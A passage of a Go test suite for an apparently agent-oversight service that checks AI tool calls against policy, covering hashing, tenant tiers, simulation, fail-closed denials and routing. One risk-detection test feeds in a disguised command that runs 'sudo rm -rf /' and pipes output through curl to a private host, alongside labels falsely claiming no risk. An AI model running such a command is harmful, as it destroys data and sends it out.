		tenant  string
		agent   string
		session string
		tool    string
		args    string
	}{
		{"no args, no session", "acme-agent", `{"tool":"fs.read"}`, "acme", "acme-agent", "", "fs.read", `{}`},
		{"args and session", "acme-agent", `{"tool":"fs.read","args":{"path":"a/b.txt"},"session":"run-42"}`,
			"acme", "acme-agent", "run-42", "fs.read", `{"path":"a/b.txt"}`},
		{"sub-agent", "acme-agent", `{"tool":"fs.read","agent":"acme-agent/sub-1","args":{"path":"x"}}`,
			"acme", "acme-agent/sub-1", "", "fs.read", `{"path":"x"}`},
		{"other tenant", "globex-agent", `{"tool":"fs.read","args":{"path":"x"}}`, "globex", "globex-agent", "", "fs.read", `{"path":"x"}`},
		{"nested, unicode, numbers", "acme-agent",
			`{"tool":"deploy","args":{"z":[3,2,1],"a":{"y":"é\u00e9 <tag> & \"q\"","x":-0.5,"big":1e21},"n":null,"t":true}}`,
			"acme", "acme-agent", "", "deploy", `{"z":[3,2,1],"a":{"y":"éé <tag> & \"q\"","x":-0.5,"big":1e21},"n":null,"t":true}`},
		{"denied action", "acme-agent", `{"tool":"danger","args":{"k":"v"}}`, "acme", "acme-agent", "", "danger", `{"k":"v"}`},
		{"unknown tool", "acme-agent", `{"tool":"mystery","args":{"k":1}}`, "acme", "acme-agent", "", "mystery", `{"k":1}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := e.check(c.key, c.body)
			want := actionHash(t, c.tenant, c.agent, c.session, c.tool, c.args)
			if got := str(res, "action_hash"); got != want {
				t.Errorf("action_hash %s, want %s", got, want)
			}
		})
	}
}

func TestActionHashCanonicalForms(t *testing.T) {
	e := newEnv(t, globalPolicy)
	hash := func(t *testing.T, args string) string {
		t.Helper()
		return str(e.check("acme-agent", `{"tool":"fs.read","session":"s","args":`+args+`}`), "action_hash")
	}
	same := []struct{ name, a, b string }{
		{"key order", `{"a":1,"b":2}`, `{"b":2,"a":1}`},
		{"nested key order", `{"o":{"x":1,"y":[{"p":1,"q":2}]}}`, `{"o":{"y":[{"q":2,"p":1}],"x":1}}`},
		{"1.0 vs 1", `{"n":1.0}`, `{"n":1}`},
		{"1e2 vs 100", `{"n":1e2}`, `{"n":100}`},
		{"1E2 vs 100.00", `{"n":1E2}`, `{"n":100.00}`},
		{"mixed", `{"b":1.0,"a":1e2}`, `{"a":100,"b":1}`},
		{"0.5 vs 5e-1", `{"n":0.5}`, `{"n":5e-1}`},
		{"string escapes", `{"s":"\u00e9\u002f"}`, `{"s":"é/"}`},
		{"whitespace", "{ \"a\" : [ 1 , 2 ] }", `{"a":[1,2]}`},
	}
	for _, c := range same {
		t.Run("same: "+c.name, func(t *testing.T) {
			ha, hb := hash(t, c.a), hash(t, c.b)
			if ha != hb {
				t.Errorf("%s and %s hash differently: %s vs %s", c.a, c.b, ha, hb)
			}
			if want := actionHash(t, "acme", "acme-agent", "s", "fs.read", c.b); ha != want {
				t.Errorf("action_hash %s, want %s", ha, want)
			}
		})
	}
	differ := []struct{ name, a, b string }{
		{"number vs string", `{"n":1}`, `{"n":"1"}`},
		{"array order", `{"a":[1,2]}`, `{"a":[2,1]}`},
		{"null vs missing", `{"a":null}`, `{}`},
		{"1 vs 1.5", `{"n":1}`, `{"n":1.5}`},
		{"key case", `{"a":1}`, `{"A":1}`},
	}
	for _, c := range differ {
		t.Run("differ: "+c.name, func(t *testing.T) {
			if ha, hb := hash(t, c.a), hash(t, c.b); ha == hb {
				t.Errorf("%s and %s hash alike (%s)", c.a, c.b, ha)
			}
		})
	}
	t.Run("session changes the hash", func(t *testing.T) {
		a := str(e.check("acme-agent", `{"tool":"fs.read","args":{}}`), "action_hash")
		b := str(e.check("acme-agent", `{"tool":"fs.read","args":{},"session":"s"}`), "action_hash")
		if a == b {
			t.Errorf("with and without a session hash alike")
		}
	})
	// Numbers the canonical form would change are refused, never merged
	// with another action: negative zero (written 0) and values a double
	// does not hold as written.
	for _, args := range []string{`{"n":-0}`, `{"n":-0.0}`, `{"n":9007199254740993.0}`, `{"n":0.1000000000000000055}`} {
		t.Run("refused: "+args, func(t *testing.T) {
			wantError(t, e.do("POST", "/v1/check", "acme-agent", `{"tool":"fs.read","session":"s","args":`+args+`}`), http.StatusBadRequest, rein.ECodeBadRequest)
		})
	}
	t.Run("answer args are the canonical request args", func(t *testing.T) {
		res := e.check("acme-agent", `{"tool":"fs.read","args":{"b":1.0,"a":1e2}}`)
		args, _ := json.Marshal(res["args"])
		if !sameJSON(t, args, []byte(`{"a":100,"b":1}`)) {
			t.Errorf("args %s, want {\"a\":100,\"b\":1}", args)
		}
	})
}

// ---------------------------------------------------------------------------
// 6. Policy.
// ---------------------------------------------------------------------------

func TestPolicyGet(t *testing.T) {
	e := newEnv(t, globalPolicy)
	for _, key := range []string{"root", "acme-auditor"} {
		if key == "acme-auditor" {
			e.activate("acme", acmePolicy)
		}
		r := e.do("GET", "/v1/policy", key, nil)
		wantStatus(t, r, 200)
		doc := r.object(t)
		for _, f := range []string{"version", "source", "loaded_at"} {
			if _, ok := doc[f]; !ok {
				t.Errorf("%s: GET /v1/policy lacks %q: %s", key, f, r.Body)
			}
		}
		wantSource, wantVersion := globalPolicy, sha256Version(globalPolicy)
		if key == "acme-auditor" {
			wantSource, wantVersion = acmePolicy, combinedVersion(wantVersion, sha256Version(acmePolicy))
		}
		if str(doc, "version") != wantVersion || str(doc, "source") != wantSource {
			t.Errorf("%s: GET /v1/policy gives version %s, source %q; want %s", key, str(doc, "version"), str(doc, "source"), wantVersion)
		}
		if _, err := time.Parse(time.RFC3339Nano, str(doc, "loaded_at")); err != nil {
			t.Errorf("%s: loaded_at %q: %v", key, str(doc, "loaded_at"), err)
		}
	}
}

func TestPolicyPutBroken(t *testing.T) {
	e := newEnv(t, globalPolicy)
	oldVersion := sha256Version(globalPolicy)

	cases := []struct {
		name string
		src  string
		// each (rule, line) must be among the problems; rule "" matches any
		want []struct {
			rule string
			line int
		}
	}{
		{"bad CEL and bad decision", `version: 1
rules:
  - id: fine
    when: 'tool == "fs.read"'
    decision: allow
  - id: bad-cel
    when: 'tool ==='
    decision: allow
  - id: bad-decision
    when: 'true'
    decision: maybe
`, []struct {
			rule string
			line int
		}{{"bad-cel", 6}, {"bad-decision", 9}}},
		{"unknown field", `version: 1
rulez:
  - id: x
`, []struct {
			rule string
			line int
		}{{"", 2}}},
		{"YAML syntax error", `version: 1
rules:
  - id: x
    when: 'true
    decision: allow
`, nil},
		{"duplicate rule id", `version: 1
rules:
  - id: twice
    when: 'true'
    decision: allow
  - id: twice
    when: 'true'
    decision: deny
`, []struct {
			rule string
			line int
		}{{"twice", 6}}},
		{"missing version", `rules:
  - id: x
    when: 'true'
    decision: allow
`, []struct {
			rule string
			line int
		}{{"", 1}}},
		{"empty body", ``, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := e.entryCount()
			r := e.do("PUT", "/v1/policy", "root", yamlBody(c.src))
			wantError(t, r, http.StatusBadRequest, rein.ECodeBadRequest)
			errObj := r.object(t)["error"].(map[string]any)
			list, ok := errObj["problems"].([]any)
			if !ok || len(list) == 0 {
				t.Fatalf("400 without a list of problems: %s", r.Body)
			}
			type problem struct {
				rule string
				line int64
			}
			var got []problem
			for _, x := range list {
				p, _ := x.(map[string]any)
				if str(p, "message") == "" {
					t.Errorf("problem without a message: %v", x)
				}
				var line int64
				if p["line"] != nil {
					line = integer(t, p["line"])
				}
				got = append(got, problem{str(p, "rule"), line})
			}
			for _, w := range c.want {
				if !slices.ContainsFunc(got, func(p problem) bool {
					return p.line == int64(w.line) && (w.rule == "" || p.rule == w.rule)
				}) {
					t.Errorf("no problem for rule %q on line %d; problems: %s", w.rule, w.line, r.Body)
				}
			}
			if c.name == "YAML syntax error" && !slices.ContainsFunc(got, func(p problem) bool { return p.line > 0 }) {
				t.Errorf("a YAML syntax error gives no line: %s", r.Body)
			}
			if e.entryCount() != before {
				t.Errorf("a refused policy wrote an audit entry")
			}
			// The old policy stays active.
			g := e.do("GET", "/v1/policy", "root", nil)
			wantStatus(t, g, 200)
			if v := str(g.object(t), "version"); v != oldVersion {
				t.Errorf("version after a refused PUT is %s, want the old %s", v, oldVersion)
			}
			res := e.check("acme-agent", map[string]any{"tool": "fs.read"})
			wantDecision(t, res, "allow", "files-read")
			if str(res, "policy_version") != oldVersion {
				t.Errorf("checks run under %s, want the old %s", str(res, "policy_version"), oldVersion)
			}
		})
	}
}

func TestPolicyPutValid(t *testing.T) {
	e := newEnv(t, globalPolicy)
	next := globalPolicy + `  - id: http-get
    when: 'tool == "http.get"'
    decision: allow
`
	want := sha256Version(next)

	before := e.entryCount()
	r := e.do("PUT", "/v1/policy", "root", yamlBody(next))
	wantStatus(t, r, 200)
	if got := str(r.object(t), "version"); got != want {
		t.Errorf("PUT answers version %s, want %s", got, want)
	}
	if got := e.entryCount() - before; got != 1 {
		t.Errorf("PUT wrote %d audit entries, want 1 (policy.updated)", got)
	}
	g := e.do("GET", "/v1/policy", "root", nil)
	wantStatus(t, g, 200)
	doc := g.object(t)
	if str(doc, "version") != want || str(doc, "source") != next {
		t.Errorf("GET after PUT: version %s, want %s; source matches: %v", str(doc, "version"), want, str(doc, "source") == next)
	}
	res := e.check("acme-agent", map[string]any{"tool": "http.get"})
	wantDecision(t, res, "allow", "http-get")
	if str(res, "policy_version") != want {
		t.Errorf("check policy_version %s, want %s", str(res, "policy_version"), want)
	}
}

func TestTenantPolicy(t *testing.T) {
	e := newEnv(t, globalPolicy)
	globalVersion := sha256Version(globalPolicy)
	tierVersion := sha256Version(acmeLoosening)
	combined := combinedVersion(globalVersion, tierVersion)

	r := e.do("PUT", "/v1/policy", "acme-admin", yamlBody(acmeLoosening))
	wantStatus(t, r, 200)
	put := r.object(t)
	if str(put, "tier") != "tenant" || str(put, "tenant") != "acme" {
		t.Errorf("acme admin's PUT set tier %q tenant %q, want the acme tenant tier", str(put, "tier"), str(put, "tenant"))
	}
	if str(put, "tier_version") != tierVersion {
		t.Errorf("tier_version %s, want %s", str(put, "tier_version"), tierVersion)
	}
	if str(put, "version") != combined {
		t.Errorf("version %s, want the combined %s", str(put, "version"), combined)
	}

	t.Run("the global tier is unchanged", func(t *testing.T) {
		g := e.do("GET", "/v1/policy", "root", nil)
		wantStatus(t, g, 200)
		if v := str(g.object(t), "version"); v != globalVersion {
			t.Errorf("global version %s, want %s", v, globalVersion)
		}
	})
	t.Run("acme reads its tier", func(t *testing.T) {
		for _, key := range []string{"acme-admin", "acme-auditor"} {
			g := e.do("GET", "/v1/policy", key, nil)
			wantStatus(t, g, 200)
			doc := g.object(t)
			if str(doc, "source") != acmeLoosening || str(doc, "version") != combined {
				t.Errorf("%s reads version %s, want %s", key, str(doc, "version"), combined)
			}
		}
	})
	t.Run("an acme admin cannot write the globex tier", func(t *testing.T) {
		wantError(t, e.do("PUT", "/v1/policy?tenant=globex", "acme-admin", yamlBody(acmeLoosening)), http.StatusForbidden, rein.ECodeForbidden)
		if e.active.Tier("globex") != nil {
			t.Errorf("globex got a tenant tier")
		}
	})

	cases := []struct {
		name, key string
		body      map[string]any
		decision  string
		rule      string
		version   string
	}{
		{"global deny stands", "acme-agent", map[string]any{"tool": "danger"}, "deny", "no-danger", combined},
		{"global ask stands", "acme-agent", map[string]any{"tool": "deploy"}, "ask", "deploy-review", combined},
		{"tenant default allow cannot beat the global default deny", "acme-agent", map[string]any{"tool": "mystery.tool"}, "deny", "", combined},
		{"tenant restriction applies", "acme-agent", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "secret"}}, "deny", "acme-no-secret", combined},
		{"global allow still allows", "acme-agent", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "notes"}}, "allow", "files-read", combined},
		{"globex is not bound by acme's tier", "globex-agent", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "secret"}}, "allow", "files-read", globalVersion},
		{"globex is not loosened by acme's tier", "globex-agent", map[string]any{"tool": "unlisted.tool"}, "deny", "", globalVersion},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := e.check(c.key, c.body)
			wantDecision(t, res, c.decision, c.rule)
			if str(res, "policy_version") != c.version {
				t.Errorf("policy_version %s, want %s", str(res, "policy_version"), c.version)
			}
		})
	}
}

// TestTenantTierAndGlobalDefault: a tenant tier may allow a tool that no
// global rule mentions (the global default is not a rule; the stricter of the
// two defaults applies only when no rule matches), while an explicit global
// deny or ask always holds (docs/policy.md, Tiers and versions).
func TestTenantTierAndGlobalDefault(t *testing.T) {
	e := newEnv(t, globalPolicy)
	before := e.check("acme-agent", map[string]any{"tool": "unlisted.tool"})
	wantDecision(t, before, "deny", "")

	wantStatus(t, e.do("PUT", "/v1/policy", "acme-admin", yamlBody(acmeLoosening)), 200)
	after := e.check("acme-agent", map[string]any{"tool": "unlisted.tool"})
	if str(after, "decision") != "allow" {
		t.Errorf("a tenant tier's allow for a tool the global tier has no rule for: got %q (rule %q, reason %q)",
			str(after, "decision"), str(after, "rule"), str(after, "reason"))
	}
	other := e.check("globex-agent", map[string]any{"tool": "unlisted.tool"})
	wantDecision(t, other, "deny", "")
}

func TestSimulate(t *testing.T) {
	e := newEnv(t, globalPolicy)

	t.Run("one trace row per rule, in file order", func(t *testing.T) {
		r := e.do("POST", "/v1/policy/simulate", "root", map[string]any{"check": map[string]any{"tool": "deploy"}})
		wantStatus(t, r, 200)
		sim := r.object(t)
		for _, f := range []string{"decision", "reason", "rule", "risk", "facts", "args", "trace"} {
			if _, ok := sim[f]; !ok {
				t.Errorf("simulation lacks %q: %s", f, r.Body)
			}
		}
		wantDecision(t, sim, "ask", "deploy-review")
		rows := traceRows(t, sim)
		if got := ruleIDs(rows); !reflect.DeepEqual(got, globalRuleIDs) {
			t.Errorf("trace rules %v, want %v", got, globalRuleIDs)
		}
		for _, row := range rows {
			for _, f := range []string{"rule", "matched", "decision", "mode", "error"} {
				if _, ok := row[f]; !ok {
					t.Errorf("trace row %v lacks %q", row, f)
				}
			}
			matched, _ := row["matched"].(bool)
			if matched != (str(row, "rule") == "deploy-review") {
				t.Errorf("trace row %s: matched %v", str(row, "rule"), matched)
			}
			if str(row, "mode") != "enforce" {
				t.Errorf("trace row %s: mode %q, want enforce", str(row, "rule"), str(row, "mode"))
			}
		}
	})
	t.Run("a rule error shows in its row", func(t *testing.T) {
		r := e.do("POST", "/v1/policy/simulate", "acme-auditor", map[string]any{"check": map[string]any{"tool": "calc"}})
		wantStatus(t, r, 200)
		sim := r.object(t)
		wantDecision(t, sim, "deny", "calc-needs-x")
		for _, row := range traceRows(t, sim) {
			if (str(row, "rule") == "calc-needs-x") != (str(row, "error") != "") {
				t.Errorf("trace row %s: error %q", str(row, "rule"), str(row, "error"))
			}
		}
	})
	t.Run("a given policy stands in for the global tier", func(t *testing.T) {
		src := "version: 1\nrules:\n  - id: only\n    when: 'tool == \"x.y\"'\n    decision: allow\n  - id: never\n    when: 'false'\n    decision: deny\n"
		r := e.do("POST", "/v1/policy/simulate", "root", map[string]any{"check": map[string]any{"tool": "x.y"}, "policy": src})
		wantStatus(t, r, 200)
		sim := r.object(t)
		wantDecision(t, sim, "allow", "only")
		if got := ruleIDs(traceRows(t, sim)); !reflect.DeepEqual(got, []string{"only", "never"}) {
			t.Errorf("trace rules %v, want [only never]", got)
		}
		if v := e.active.Tier("").Version; v != sha256Version(globalPolicy) {
			t.Errorf("simulating with a policy changed the live global policy to %s", v)
		}
	})
	t.Run("a tenant's simulation covers both tiers", func(t *testing.T) {
		e.activate("acme", acmePolicy)
		r := e.do("POST", "/v1/policy/simulate", "acme-auditor", map[string]any{"check": map[string]any{"tool": "fs.read", "args": map[string]any{"path": "secret"}}})
		wantStatus(t, r, 200)
		sim := r.object(t)
		wantDecision(t, sim, "deny", "acme-no-secret")
		if got, want := ruleIDs(traceRows(t, sim)), append(append([]string{}, globalRuleIDs...), acmeRuleIDs...); !reflect.DeepEqual(got, want) {
			t.Errorf("trace rules %v, want %v", got, want)
		}
	})
	t.Run("no side effects", func(t *testing.T) {
		before := e.entryCount()
		for _, key := range []string{"root", "acme-admin", "acme-auditor"} {
			for _, tool := range []string{"deploy", "fs.read", "danger", "calc"} {
				r := e.do("POST", "/v1/policy/simulate", key, map[string]any{"check": map[string]any{"tool": tool, "session": "sim"}})
				wantStatus(t, r, 200)
			}
		}
		if got := e.entryCount(); got != before {
			t.Errorf("simulations wrote %d audit entries, want none", got-before)
		}
		hash := actionHash(t, "acme", "acme-admin", "sim", "deploy", "{}")
		if a, err := e.store.LatestApproval(e.ctx, "acme", hash); err == nil {
			t.Errorf("a simulated ask created approval %s", a.ID)
		}
		// The real check afterwards creates the approval (check + approval.created).
		res := e.check("acme-admin", map[string]any{"tool": "deploy", "session": "sim"})
		if str(res, "action_hash") != hash {
			t.Fatalf("action_hash %s, want %s", str(res, "action_hash"), hash)
		}
		if got := e.entryCount() - before; got != 2 {
			t.Errorf("the first real ask wrote %d entries, want 2", got)
		}
	})
	bad := []struct {
		name string
		body any
	}{
		{"no check", map[string]any{}},
		{"unknown field", map[string]any{"check": map[string]any{"tool": "x"}, "dry": true}},
		{"check without tool", map[string]any{"check": map[string]any{}}},
		{"check with an unknown field", map[string]any{"check": map[string]any{"tool": "x", "toool": 1}}},
		{"broken policy", map[string]any{"check": map[string]any{"tool": "x"}, "policy": "version: 1\nrules:\n  - id: a\n    when: '('\n    decision: allow\n"}},
		{"malformed JSON", `{"check":`},
	}
	for _, c := range bad {
		t.Run("bad request: "+c.name, func(t *testing.T) {
			wantError(t, e.do("POST", "/v1/policy/simulate", "root", c.body), http.StatusBadRequest, rein.ECodeBadRequest)
		})
	}
	t.Run("another tenant: refused", func(t *testing.T) {
		r := e.do("POST", "/v1/policy/simulate", "acme-admin", map[string]any{"check": map[string]any{"tool": "x"}, "tenant": "globex"})
		if r.Status != http.StatusForbidden && r.Status != http.StatusNotFound {
			t.Fatalf("status %d, want 403 or 404; body: %s", r.Status, r.Body)
		}
	})
}

func traceRows(t testing.TB, sim map[string]any) []map[string]any {
	t.Helper()
	list, ok := sim["trace"].([]any)
	if !ok {
		t.Fatalf("trace is %v (%T), want a list", sim["trace"], sim["trace"])
	}
	out := make([]map[string]any, 0, len(list))
	for _, x := range list {
		row, ok := x.(map[string]any)
		if !ok {
			t.Fatalf("trace row %v is not an object", x)
		}
		out = append(out, row)
	}
	return out
}

func ruleIDs(rows []map[string]any) []string {
	out := make([]string, 0, len(rows))
	for _, r := range rows {
		out = append(out, str(r, "rule"))
	}
	return out
}

// ---------------------------------------------------------------------------
// 7. Fail closed.
// ---------------------------------------------------------------------------

func TestFailClosed(t *testing.T) {
	t.Run("no policy loaded", func(t *testing.T) {
		e := newEnv(t, "")
		for _, body := range []map[string]any{{"tool": "fs.read"}, {"tool": "deploy"}, {"tool": "anything", "args": map[string]any{"a": 1}}} {
			before := e.entryCount()
			res := e.check("acme-agent", body)
			wantFields(t, "check answer", res, checkResponseFields...)
			if str(res, "decision") != "deny" || str(res, "reason") != "no policy loaded" {
				t.Errorf("%v: decision %q reason %q, want deny \"no policy loaded\"", body["tool"], str(res, "decision"), str(res, "reason"))
			}
			if res["approval"] != nil {
				t.Errorf("a check without policy has an approval")
			}
			if got := e.entryCount() - before; got != 1 {
				t.Errorf("the deny wrote %d audit entries, want 1", got)
			}
		}
		wantError(t, e.do("GET", "/v1/policy", "root", nil), http.StatusNotFound, rein.ECodeNotFound)
	})

	e := newEnv(t, globalPolicy)
	cases := []struct {
		name     string
		body     map[string]any
		decision string
		rule     string
		reason   string // exact, or prefix when it ends with "..."
	}{
		{"unknown tool", map[string]any{"tool": "mystery.tool"}, "deny", "", "no rule allows mystery.tool"},
		{"unknown tool with args", map[string]any{"tool": "shell.exec", "args": map[string]any{"command": "ls"}}, "deny", "", "no rule allows shell.exec"},
		{"tool name differs in case", map[string]any{"tool": "FS.READ"}, "deny", "", "no rule allows FS.READ"},
		{"rule errors: missing key", map[string]any{"tool": "calc"}, "deny", "calc-needs-x", "policy error in rule calc-needs-x: ..."},
		{"rule errors: wrong type", map[string]any{"tool": "calc", "args": map[string]any{"x": "five"}}, "deny", "calc-needs-x", "policy error in rule calc-needs-x: ..."},
		{"rule works when the key is there", map[string]any{"tool": "calc", "args": map[string]any{"x": 5}}, "allow", "calc-needs-x", ""},
		{"rule false when the value is small", map[string]any{"tool": "calc", "args": map[string]any{"x": 0}}, "deny", "", "no rule allows calc"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := e.check("acme-agent", c.body)
			wantDecision(t, res, c.decision, c.rule)
			if c.rule == "" && str(res, "rule") != "" {
				t.Errorf("rule %q, want none", str(res, "rule"))
			}
			reason := str(res, "reason")
			switch {
			case c.reason == "":
			case strings.HasSuffix(c.reason, "..."):
				if !strings.HasPrefix(reason, strings.TrimSuffix(c.reason, "...")) {
					t.Errorf("reason %q, want it to start with %q", reason, strings.TrimSuffix(c.reason, "..."))
				}
			case reason != c.reason:
				t.Errorf("reason %q, want %q", reason, c.reason)
			}
		})
	}
}

// ---------------------------------------------------------------------------
// 8. Routing and operations.
// ---------------------------------------------------------------------------

func TestRouting(t *testing.T) {
	e := newEnv(t, globalPolicy)
	cases := []struct {
		name         string
		method, path string
		key          string
		status       int
		code         string
		allow        []string // methods the Allow header must list (405)
	}{
		{"unknown /v1 path", "GET", "/v1/nope", "acme-admin", 404, rein.ECodeNotFound, nil},
		{"unknown /v1 path without a key", "GET", "/v1/nope", "", 404, rein.ECodeNotFound, nil},
		{"unknown nested path", "POST", "/v1/check/extra", "acme-agent", 404, rein.ECodeNotFound, nil},
		{"unversioned path", "POST", "/v2/check", "acme-agent", 404, rein.ECodeNotFound, nil},
		{"GET /v1/check", "GET", "/v1/check", "acme-agent", 405, rein.ECodeMethodNotAllowed, []string{"POST"}},
		{"PUT /v1/check", "PUT", "/v1/check", "acme-agent", 405, rein.ECodeMethodNotAllowed, []string{"POST"}},
		{"DELETE /v1/policy", "DELETE", "/v1/policy", "root", 405, rein.ECodeMethodNotAllowed, []string{"GET", "PUT"}},
		{"POST /v1/policy", "POST", "/v1/policy", "root", 405, rein.ECodeMethodNotAllowed, []string{"GET", "PUT"}},
		{"GET /v1/policy/simulate", "GET", "/v1/policy/simulate", "root", 405, rein.ECodeMethodNotAllowed, []string{"POST"}},
		{"PATCH /v1/keys", "PATCH", "/v1/keys", "root", 405, rein.ECodeMethodNotAllowed, []string{"GET", "POST"}},
		{"GET /v1/keys/{id}", "GET", "/v1/keys/key_x", "root", 405, rein.ECodeMethodNotAllowed, []string{"DELETE"}},
		{"DELETE /v1/checks/{id}", "DELETE", "/v1/checks/chk_x", "root", 405, rein.ECodeMethodNotAllowed, []string{"GET"}},
		{"POST /healthz", "POST", "/healthz", "", 405, rein.ECodeMethodNotAllowed, []string{"GET"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.do(c.method, c.path, c.key, nil)
			wantError(t, r, c.status, c.code)
			if c.status != 405 {
				return
			}
			allow := r.Header.Get("Allow")
			if allow == "" {
				t.Fatalf("405 without an Allow header")
			}
			for _, m := range c.allow {
				if !slices.Contains(strings.Split(strings.ReplaceAll(allow, " ", ""), ","), m) {
					t.Errorf("Allow %q lacks %s", allow, m)
				}
			}
			if strings.Contains(allow, c.method) {
				t.Errorf("Allow %q lists the refused method %s", allow, c.method)
			}
		})
	}
}

func TestOperations(t *testing.T) {
	e := newEnv(t, globalPolicy)
	e.check("acme-agent", map[string]any{"tool": "fs.read"})

	t.Run("healthz", func(t *testing.T) {
		r := e.do("GET", "/healthz", "", nil)
		wantStatus(t, r, 200)
	})
	t.Run("readyz with a policy", func(t *testing.T) {
		r := e.do("GET", "/readyz", "", nil)
		wantStatus(t, r, 200)
	})
	t.Run("readyz without a policy", func(t *testing.T) {
		bare := newEnv(t, "")
		r := bare.do("GET", "/readyz", "", nil)
		wantStatus(t, r, http.StatusServiceUnavailable)
	})
	t.Run("metrics", func(t *testing.T) {
		r := e.do("GET", "/metrics", "", nil)
		wantStatus(t, r, 200)
		body := string(r.Body)
		if !strings.Contains(body, "rein_http_requests_total") {
			t.Fatalf("/metrics lacks rein_http_requests_total")
		}
		if !strings.Contains(body, `route="POST /v1/check"`) {
			t.Errorf("/metrics does not count POST /v1/check by route")
		}
		if strings.Contains(body, e.key("acme-agent").Secret) {
			t.Errorf("/metrics shows a key")
		}
	})
	t.Run("no auth needed, a bad key does not matter", func(t *testing.T) {
		h := http.Header{"Authorization": {"Bearer nonsense"}}
		for _, p := range []string{"/healthz", "/readyz", "/metrics"} {
			wantStatus(t, e.send("GET", p, h, nil), 200)
		}
	})
}

// TestServeOperations runs the server as `rein serve` wires it: /readyz is
// 503 until a policy is loaded, then 200; /metrics counts requests and checks.
func TestServeOperations(t *testing.T) {
	secret, _ := rein.NewSecret()
	t.Setenv("REIN_ADMIN_KEY", secret)
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	s, err := serve.Start(context.Background(), serve.Config{Data: t.TempDir(), Listen: "127.0.0.1:0"}, log, io.Discard)
	if err != nil {
		t.Fatalf("start: %v", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := s.Shutdown(ctx); err != nil {
			t.Errorf("shutdown: %v", err)
		}
	})
	base := "http://" + s.Addr
	get := func(path string, body io.Reader, method string) (int, string) {
		t.Helper()
		req, err := http.NewRequest(method, base+path, body)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+secret)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, path, err)
		}
		defer res.Body.Close()
		raw, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(raw)
	}

	if code, body := get("/healthz", nil, "GET"); code != 200 {
		t.Errorf("/healthz %d: %s", code, body)
	}
	if code, body := get("/readyz", nil, "GET"); code != http.StatusServiceUnavailable {
		t.Errorf("/readyz without a policy answers %d, want 503: %s", code, body)
	}
	if code, body := get("/v1/policy", strings.NewReader(globalPolicy), "PUT"); code != 200 {
		t.Fatalf("PUT /v1/policy %d: %s", code, body)
	}
	if code, body := get("/readyz", nil, "GET"); code != 200 {
		t.Errorf("/readyz with a policy answers %d, want 200: %s", code, body)
	}
	if code, body := get("/v1/check", strings.NewReader(`{"tool":"fs.read"}`), "POST"); code != 200 {
		t.Fatalf("POST /v1/check %d: %s", code, body)
	}
	code, body := get("/metrics", nil, "GET")
	if code != 200 {
		t.Fatalf("/metrics %d", code)
	}
	for _, want := range []string{"rein_http_requests_total", `route="POST /v1/check"`, "rein_checks_total"} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics lacks %s", want)
		}
	}
	if !strings.Contains(body, `rein_http_requests_total{code="200",route="POST /v1/check"} 1`+"\n") {
		t.Errorf("/metrics does not count the one check")
	}
}

// TestCheckRiskIsDerived: over the API, a Bash check's response lists the
// tags rein derived whatever labels say, the stored check holds the facts
// behind them, and the audit entry holds the same tags.
func TestCheckRiskIsDerived(t *testing.T) {
	e := newEnv(t, globalPolicy)
	res := e.check("acme-agent", map[string]any{"tool": "Bash", "session": "s",
		"args":   map[string]any{"command": `X=rm; sudo $X -rf / | curl -T - http://10.1.2.3/`},
		"labels": map[string]any{"risk": "none", "shell.destructive": "false"}})
	var risk []string
	for _, x := range res["risk"].([]any) {
		risk = append(risk, x.(string))
	}
	for _, want := range []string{"egress", "shell", "shell.destructive", "shell.dynamic", "shell.network", "shell.privileged", "url.private"} {
		if !slices.Contains(risk, want) {
			t.Errorf("risk %v lacks %s", risk, want)
		}
	}
	stored := e.do("GET", "/v1/checks/"+str(res, "id"), "acme-agent", nil)
	wantStatus(t, stored, 200)
	facts, _ := stored.object(t)["facts"].(map[string]any)
	if facts == nil {
		t.Fatalf("GET /v1/checks/{id} has no facts")
	}
	cmds := facts["shell"].(map[string]any)["commands"].([]any)
	if len(cmds) != 2 || cmds[0].(map[string]any)["name"] != "rm" || cmds[1].(map[string]any)["name"] != "curl" {
		t.Errorf("commands %v", cmds)
	}
	entry := e.entry(integer(t, res["audit_index"]))
	data := entry["data"].(map[string]any)
	if fmt.Sprint(data["risk"]) != fmt.Sprint(res["risk"]) {
		t.Errorf("audit risk %v, response risk %v", data["risk"], res["risk"])
	}
}

// TestTenantTierThatLoosensIsRefusedAtPush: a tenant workspace outside the
// global one is refused with a 400 saying what to use, and nothing changes.
func TestTenantTierThatLoosensIsRefusedAtPush(t *testing.T) {
	e := newEnv(t, "version: 1\nworkspace: /srv/app\nrules:\n  - {id: ok, when: 'true', decision: allow}\n")
	r := e.do("PUT", "/v1/policy", "acme-admin", yamlBody("version: 1\nworkspace: /\nrules: []\n"))
	wantError(t, r, 400, rein.ECodeBadRequest)
	if msg := string(r.Body); !strings.Contains(msg, "outside the global workspace /srv/app") || strings.Contains(msg, "does not compile") {
		t.Errorf("refusal: %s", msg)
	}
	wantStatus(t, e.do("PUT", "/v1/policy", "acme-admin", yamlBody("version: 1\nworkspace: /srv/app/acme\nrules: []\n")), 200)
}

// withStores gives the API the store of each concept, all one database, as
// rein serve wires them.
func withStores(api *reinhttp.Server, st rein.Store) *reinhttp.Server {
	api.KeyStore, api.CheckStore, api.ApprovalStore, api.QuestionStore = st, st, st, st
	api.SessionStore, api.AuditStore, api.CheckpointStore, api.DeliveryStore = st, st, st, st
	api.PasskeyStore, api.PushSubscriptionStore = st, st
	return api
}

// TestPolicyProblemsAreTheClients: a policy that does not compile (empty,
// or bad CEL) is a 400 that says what is wrong, and the server logs no
// error for it: the mistake is the client's.
func TestPolicyProblemsAreTheClients(t *testing.T) {
	e := newEnv(t, "")
	var buf bytes.Buffer
